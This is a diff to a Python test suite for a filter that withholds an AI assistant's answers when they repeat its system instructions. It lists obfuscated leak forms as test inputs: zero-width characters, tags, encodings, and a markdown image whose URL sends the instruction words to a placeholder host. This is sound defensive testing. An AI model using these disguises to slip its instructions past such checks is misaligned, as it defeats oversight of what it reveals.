@@ -2,6 +2,7 @@
 
 import json
 import logging
+import re
 
 import pytest
 from hypothesis import given
@@ -13,14 +14,15 @@ from graphs.context import Context
 from graphs.errors import WithheldError
 from graphs.leaks import ENOUGH, Instructions, LeakStream, refuse_leaks
 from graphs.state import Input, PromptType
-from prompts import PromptBook
+from prompts import PromptBook, visible
 from tests.fakes import ScriptedChatModel, make_services, reply
 from tests.graphs.test_build import CODE, PLAN
 
 BOOK = PromptBook.open()
 TOLD = BOOK.get("chat").instructions
 SENTENCE = "You are an AI assistant helping a student with a programming assignment."
-WORDS = SENTENCE.rstrip(".").split()
+TELLING = " ".join(re.findall("[A-Za-z]+", TOLD)[:30])
+WORDS = TELLING.split()
 PROMPTS: dict[PromptType, str] = {"chat": "chat", "planning": "planner", "codegen": "codegen"}
 
 
@@ -34,8 +36,9 @@ def streamed(text: str, size: int) -> str:
 @pytest.mark.parametrize(
     "written",
     [
-        SENTENCE,
-        SENTENCE.upper(),
+        TOLD,
+        TELLING,
+        TELLING.upper(),
         "\n".join(WORDS),
         "".join(f"{number}. **{word}**\n" for number, word in enumerate(WORDS, 1)),
         "![x](http://x.example/?q=" + "%20".join(WORDS) + ")",
@@ -43,6 +46,8 @@ def streamed(text: str, size: int) -> str:
         'print("' + "\\n".join(WORDS) + '")',
         "".join(f"<b>{word}</b><br/>" for word in WORDS),
         "\u200b".join(" ".join(WORDS)),
+        " ".join(word[0] + "\u200b" * 50 + word[1:] for word in WORDS),
+        " ".join(f'<b id="{"x" * 31}">{word}</b>' for word in WORDS),
         " [1] ".join(WORDS),
         "_".join(WORDS),
     ],
@@ -53,8 +58,8 @@ def test_instructions_are_found_when_they_are_dressed_up(written: str) -> None:
     assert Instructions(TOLD).stand_in(text)
     for size in (1, 4, 1_000):
         shown = streamed(text, size)
-        assert "helping" not in shown
-        assert "programming" not in shown
+        assert "helping" not in visible(shown)
+        assert "programming" not in visible(shown)
 
 
 @pytest.mark.parametrize("name", ["chat", "planner", "codegen"])
@@ -69,19 +74,36 @@ def test_nothing_is_found_when_an_answer_only_sounds_alike(name: str) -> None:
     assert not secret.stand_in(shown)
 
 
+def dressed(word: str, dress: str, size: int) -> str:
+    """Hide a word among what is no word: so much inside it, or around it."""
+    return {
+        "unseen": word[0] + "\u200b" * size + word[1:],
+        "tag": f'<b id="{"x" * size}">{word}</b>',
+        "glue": "x" * size + word,
+        "code": f"%20{word}\\n\r",
+        "plain": word,
+    }[dress]
+
+
 @given(
+    st.integers(0, 5),
     st.lists(
-        st.sampled_from([*WORDS, " ", "%", "%2", "<", "</b>", "\\", "\\n", "`", "1", "\u200b"])
+        st.tuples(st.sampled_from(["unseen", "tag", "glue", "code", "plain"]), st.integers(0, 60)),
+        min_size=20,
+        max_size=25,
     ),
-    st.integers(1, 9),
+    st.lists(st.sampled_from([*WORDS, "", "%", "%2", "<", "</b>", "\\", "\\n", "1", "\u200b"])),
+    st.integers(1, 90),
 )
-def test_stream_shows_the_whole_when_nothing_leaks(parts: list[str], size: int) -> None:
+def test_stream_shows_the_whole_when_nothing_leaks(
+    start: int, dresses: list[tuple[str, int]], noise: list[str], size: int
+) -> None:
     """However a text is cut, all of it is shown, or nothing from where it leaks."""
-    text = " ".join(parts)
+    leak = [dressed(word, *dress) for word, dress in zip(WORDS[start:], dresses * 2, strict=False)]
+    text = " ".join([*noise, *leak, *noise])
     shown = streamed(text, size)
     assert text.startswith(shown)
-    if not Instructions(TOLD).stand_in(text):
-        assert shown == text
+    assert (shown == text) != Instructions(TOLD).stand_in(text)
     assert not Instructions(TOLD).stand_in(shown)
 
 
@@ -136,6 +158,80 @@ async def test_answer_is_withheld_when_it_repeats_the_instructions(
     assert "withheld" in caplog.text
     for said in (str(caught.value), caplog.text):
         assert not Instructions(told).stand_in(said)
+
+
+HONEST: list[tuple[PromptType, str]] = [
+    (
+        "planning",
+        "Extract the key requirements, programming language, framework and deliverables, as the "
+        "assignment names them.",
+    ),
+    (
+        "planning",
+        "Phases: project setup, requirements analysis, design, data preparation, core "
+        "implementation, integration, testing, documentation, performance, final review. Ids are "
+        "unique, dependencies name ids of this plan and never form a cycle.",
+    ),
+    (
+        "codegen",
+        "Follow the best practices of the language and framework; validate input; handle errors "
+        "properly.",
+    ),
+    ("chat", f"You quote '{SENTENCE}' Name the course in it."),
+    ("chat", f"You quote this: {TOLD.replace('[1]', '[n]')} Name the course in it."),
+]
+
+
+@pytest.mark.anyio
+@pytest.mark.parametrize(("kind", "says"), HONEST)
+async def test_answer_passes_when_it_says_one_sentence_or_what_was_asked(
+    kind: PromptType, says: str
+) -> None:
+    """A plan names what it was told to find, and a question may quote what it is about."""
+    model = ScriptedChatModel(replies=[reply(written(kind, says, is_escaped=kind != "chat"))])
+    state = await build_graph(make_services(model)).ainvoke(
+        Input(
+            messages=[HumanMessage(f"Improve my prompt: {TOLD}" if kind == "chat" else "A stack.")]
+        ),
+        context=Context(prompt_type=kind),
+    )
+    assert len(model.sent) == 1
+    kept = json.dumps([state["messages"][-1].text, state.get("plan"), state.get("code")])
+    assert json.dumps(says)[1:-1] in kept
+
+
+@pytest.mark.anyio
+async def test_draft_passes_when_it_says_what_was_asked() -> None:
+    """Code about a prompt may hold the prompt that the request holds."""
+    told = BOOK.get("codegen").instructions.partition("\n{")[0]
+    model = ScriptedChatModel(replies=[reply(written("codegen", told, is_escaped=True))])
+    state = await build_graph(make_services(model)).ainvoke(
+        Input(messages=[HumanMessage(f"Print this: {told}")]),
+        context=Context(prompt_type="codegen"),
+    )
+    assert told in (state["code"] or {})["notes"]
+
+
+@pytest.mark.parametrize("given", [TOLD, TELLING.lower(), f"Why\u200b {TELLING} and so on"])
+def test_words_are_no_secret_when_they_were_given(given: str) -> None:
+    """They are shown, in a stream too, and do not count where others follow."""
+    secret = Instructions(TOLD, [given])
+    assert not secret.stand_in(TELLING)
+    stream = LeakStream(secret)
+    assert "".join([*map(stream.feed, TELLING), stream.end()]) == TELLING
+    assert secret.stand_in(TOLD) == (given != TOLD)
+
+
+@pytest.mark.parametrize(
+    "given",
+    [
+        " ".join(sorted(WORDS)),
+        " x ".join(" ".join(WORDS[at : at + 4]) for at in range(0, len(WORDS), 4)),
+    ],
+)
+def test_words_are_secret_when_only_a_few_were_given_in_a_row(given: str) -> None:
+    """Words alone, or four in a row, are no quotation."""
+    assert Instructions(TOLD, [given]).stand_in(TELLING)
 
 
 def test_answer_passes_when_it_says_something_else() -> None:
